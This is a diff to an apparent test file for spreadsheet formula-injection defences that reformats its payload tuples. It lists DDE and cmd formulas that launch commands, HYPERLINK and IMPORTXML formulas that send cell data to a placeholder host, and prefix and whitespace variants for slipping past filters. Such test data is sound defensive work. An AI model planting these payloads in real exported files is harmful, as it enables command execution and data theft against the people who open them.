@@ -27,17 +27,39 @@ from vocation.records import Recommendation, Suggestion
 
 CALLS = (
     "cmd|' /C calc'!A0",
-    "HYPERLINK(\"http://example.org/?x=\"&A1,\"click\")",
+    'HYPERLINK("http://example.org/?x="&A1,"click")',
     "1+1",
     "SUM(A1:A9)",
     'DDE("cmd";"/C calc";"x")',
-    "IMPORTXML(CONCAT(\"http://example.org/\",A1),\"//a\")",
-    "WEBSERVICE(\"http://example.org\")",
+    'IMPORTXML(CONCAT("http://example.org/",A1),"//a")',
+    'WEBSERVICE("http://example.org")',
     "2+5+cmd|' /C calc'!A0",
     "msexcel|'\\..\\..\\cmd.exe /c calc'!''",
 )
 SIGNS = ("=", "+", "-", "@", "=-", "+=", "@=", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "−")
-BEFORE = ("", "", " ", "\t", "\r", "\n", "\r\n", "\u00a0", "\u3000", "\u2003", "\u200b", "\ufeff", "\u200e", "\x0b", "\x01", '"', "'", "''", '""', "' ", "\u00ad")
+BEFORE = (
+    "",
+    "",
+    " ",
+    "\t",
+    "\r",
+    "\n",
+    "\r\n",
+    "\u00a0",
+    "\u3000",
+    "\u2003",
+    "\u200b",
+    "\ufeff",
+    "\u200e",
+    "\x0b",
+    "\x01",
+    '"',
+    "'",
+    "''",
+    '""',
+    "' ",
+    "\u00ad",
+)
 AROUND = ("", "", "I like animals", "x;", "x,", "x\t", "x|", "x\n", "x\r\n", 'x";"', 'x","', "';", "x; ", "x\n\n", "x,\u00a0")
 
 
